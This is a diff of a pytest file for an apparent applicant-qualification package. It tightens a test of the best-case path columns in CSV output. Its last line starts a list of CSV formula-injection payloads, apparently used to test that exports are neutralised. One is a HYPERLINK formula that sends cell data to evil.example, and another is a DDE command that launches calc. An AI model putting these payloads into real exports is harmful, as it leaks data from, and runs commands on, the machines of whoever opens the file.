@@ -13,6 +13,8 @@ from typing import Any
 
 import pytest
 
+from pyqualify import fastest_path
+from pyqualify.applicant import parse_applicant
 from pyqualify.batch import run_batch
 from pyqualify.batch.records import FORMULA_START, Settings, depends_text, flat_row, neutral
 from pyqualify.batch.table import NOT_SURE, UNSURE_WORD, template_columns, write_template
@@ -256,10 +258,6 @@ def test_a_path_rows_best_case_columns():
     assert (row["best_months"], row["best_certified"], row["best_assumes"]) == ("", "", "")
 
 
-@pytest.mark.xfail(reason="a path question with an unknown reading fails in "
-                          "questions.canonical_question (KeyError on the reading 'unknown'):"
-                          " the batch's path cache, outside the spreadsheet side",
-                   strict=False)
 def test_a_csv_path_answer_with_unknowns_has_its_best_case(tmp_path: Path):
     source = write_jsonl(tmp_path / "in.jsonl", [
         {"id": "w", "as_of": "2026-01", "education": "high_school",
@@ -269,8 +267,16 @@ def test_a_csv_path_answer_with_unknowns_has_its_best_case(tmp_path: Path):
     batch(source, tmp_path / "o.jsonl", target=3)
     doc, row = records(tmp_path / "o.jsonl")[0], csv_rows(tmp_path / "o.csv")[0]
     assert doc["ok"], doc
+    # the record's path is the path of the file itself (no canonical question for a file
+    # with unknown facts: its best_case names its own records and months)
+    alone = fastest_path(parse_applicant(json.loads(source.read_text())), 3).to_json()
+    for key in ("reachable", "months", "certified", "best_case"):
+        assert doc["path"][key] == alone[key], key
     best = doc["path"]["best_case"]
-    assert row["best_months"] == ("" if best is None else str(best["months"]))
+    assert best is not None and best["months"] < doc["path"]["months"]
+    assert best["assumes"] == {"diplomas[0].major": "related"}
+    assert row["best_months"] == str(best["months"])
+    assert row["months"] == str(doc["path"]["months"])
 
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
